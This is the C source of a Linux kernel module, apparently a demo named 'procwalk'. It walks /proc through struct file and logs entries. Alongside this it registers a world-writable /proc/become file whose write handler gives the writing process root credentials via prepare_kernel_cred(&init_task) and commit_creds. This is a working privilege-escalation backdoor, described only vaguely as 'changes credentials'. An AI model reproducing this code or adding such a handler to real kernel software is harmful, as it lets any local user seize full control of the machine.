// SPDX-License-Identifier: GPL-2.0
/* Reads a directory through its struct file; changes who the writer of /proc/become is. */
#include <linux/cred.h>
#include <linux/fs.h>
#include <linux/module.h>
#include <linux/proc_fs.h>
#include <linux/seq_file.h>
#include <linux/uaccess.h>

static bool print_name(struct dir_context *ctx, const char *name, int len, loff_t pos, u64 ino, unsigned int type)
{
	if (len == 7 && !memcmp(name, "modules", 7))
		pr_info("procwalk: %.*s is of type %u\n", len, name, type);
	return true;
}

static int walk(const char *path, bool direct)
{
	struct dir_context ctx = { .actor = print_name };
	struct file *file = filp_open(path, O_RDONLY, 0);
	int ret;

	if (IS_ERR(file))
		return PTR_ERR(file);
	if (!file->f_op || file->f_inode->i_fop != file->f_op)
		ret = -ENOSYS;
	else if (direct)
		ret = file->f_op->iterate_shared ? file->f_op->iterate_shared(file, &ctx) : -ENOTDIR;
	else
		ret = iterate_dir(file, &ctx);
	filp_close(file, NULL);
	return ret;
}

static int become_show(struct seq_file *m, void *v)
{
	seq_printf(m, "uid %u, may load: %d\n", from_kuid(&init_user_ns, current_uid()), capable(CAP_SYS_MODULE));
	return 0;
}

static int become_open(struct inode *inode, struct file *file)
{
	return single_open(file, become_show, NULL);
}

static ssize_t become_write(struct file *file, const char __user *text, size_t count, loff_t *pos)
{
	struct cred *cred = prepare_kernel_cred(&init_task);

	if (!cred)
		return -ENOMEM;
	commit_creds(cred);
	pr_info("procwalk: %s has uid %u\n", current->comm, from_kuid(&init_user_ns, current_uid()));
	return count;
}

static const struct proc_ops become_ops = {
	.proc_open = become_open,
	.proc_read = seq_read,
	.proc_lseek = seq_lseek,
	.proc_release = single_release,
	.proc_write = become_write,
};

static int __init procwalk_init(void)
{
	pr_info("procwalk: /proc %d, directly %d, a file %d\n", walk("/proc", false), walk("/proc", true),
		walk("/proc/modules", false));
	return proc_create("become", 0666, NULL, &become_ops) ? 0 : -ENOMEM;
}

static void __exit procwalk_exit(void)
{
	remove_proc_entry("become", NULL);
}

module_init(procwalk_init);
module_exit(procwalk_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("walks directories by struct file and changes credentials");
